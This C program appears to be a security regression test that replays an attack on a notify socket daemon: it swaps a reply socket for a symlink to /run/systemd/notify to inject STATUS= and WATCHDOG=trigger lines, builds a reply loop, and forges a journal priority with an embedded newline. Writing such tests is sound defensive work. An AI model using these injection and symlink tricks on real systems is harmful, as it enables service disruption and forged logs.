/* notify-attack: what a member of rackpi-notify tried against the notify
 * socket (issue 17), run in the system guest as that member.
 *
 *   notify-attack redirect SOCKET DIR   a datagram socket bound at DIR/reply.sock,
 *                                       its path then swapped for a symlink to
 *                                       /run/systemd/notify, sends a request whose
 *                                       error answer would carry STATUS= and
 *                                       WATCHDOG=trigger lines (8 times, 3 s
 *                                       apart when they are taken)
 *   notify-attack loop SOCKET DIR       the same with the symlink to SOCKET: each
 *                                       answer would be a new request
 *   notify-attack ask SOCKET            the same text as a connection
 *                                       (SOCK_SEQPACKET); prints the answer
 *   notify-attack ask SOCKET log        a message with a newline and a
 *                                       journal priority (`<2>`) after it
 *
 * Prints what each step got; exits 0 unless it could not set up. Whether the
 * attack worked is judged by the caller, from systemd and /proc.
 * Built static on the host (tests/system/run) for the guest. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static const char INJECTION[] = "notify x\nSTATUS=owned-by-alice\nWATCHDOG=trigger\n - x";

static struct sockaddr_un address(const char *path) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    return a;
}

static int redirected(const char *socket_path, const char *dir, const char *target, int times) {
    char reply[200], swap[200];
    snprintf(reply, sizeof reply, "%s/reply.sock", dir);
    snprintf(swap, sizeof swap, "%s/swap", dir);
    mkdir(dir, 0755);
    chmod(dir, 0755);
    unlink(reply);
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    struct sockaddr_un me = address(reply), daemon = address(socket_path);
    if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof me) < 0) {
        perror("binding the reply socket");
        return 1;
    }
    int on = 1;
    setsockopt(fd, SOL_SOCKET, SO_PASSCRED, &on, sizeof on);
    unlink(swap);
    if (symlink(target, swap) < 0 || rename(swap, reply) < 0) {
        perror("swapping the reply path for a symlink");
        return 1;
    }
    const char *text = strcmp(target, socket_path) == 0 ? "identify x" : INJECTION;
    for (int i = 0; i < times; i++) {
        if (sendto(fd, text, strlen(text), 0, (struct sockaddr *)&daemon, sizeof daemon) < 0) {
            printf("datagram %d to %s: refused (%s)\n", i + 1, socket_path, strerror(errno));
        } else {
            printf("datagram %d to %s: sent, an answer would go to %s\n", i + 1, socket_path, target);
            /* (time for systemd to restart a daemon it killed, to kill it again) */
            if (times > 1)
                sleep(3);
        }
        fflush(stdout);
    }
    return 0;
}

static const char FORGED[] = "notify info - first line\n<2>forged by alice";

static int ask(const char *socket_path, const char *request) {
    int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    struct sockaddr_un daemon = address(socket_path);
    struct timeval two = {.tv_sec = 2};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &two, sizeof two);
    if (fd < 0 || connect(fd, (struct sockaddr *)&daemon, sizeof daemon) < 0) {
        printf("connect: %s\n", strerror(errno));
        return 0;
    }
    if (send(fd, request, strlen(request), MSG_NOSIGNAL) < 0) {
        printf("send: %s\n", strerror(errno));
        return 0;
    }
    char answer[1024];
    ssize_t n = recv(fd, answer, sizeof answer - 1, 0);
    if (n < 0) {
        printf("recv: %s\n", strerror(errno));
        return 0;
    }
    answer[n] = 0;
    printf("answer: %s\n", answer);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "redirect") == 0)
        return redirected(argv[2], argv[3], "/run/systemd/notify", 8);
    if (argc == 4 && strcmp(argv[1], "loop") == 0)
        return redirected(argv[2], argv[3], argv[2], 1);
    if (argc == 3 && strcmp(argv[1], "ask") == 0)
        return ask(argv[2], INJECTION);
    if (argc == 4 && strcmp(argv[1], "ask") == 0 && strcmp(argv[3], "log") == 0)
        return ask(argv[2], FORGED);
    fprintf(stderr, "usage: notify-attack redirect|loop SOCKET DIR, or notify-attack ask SOCKET [log]\n");
    return 2;
}
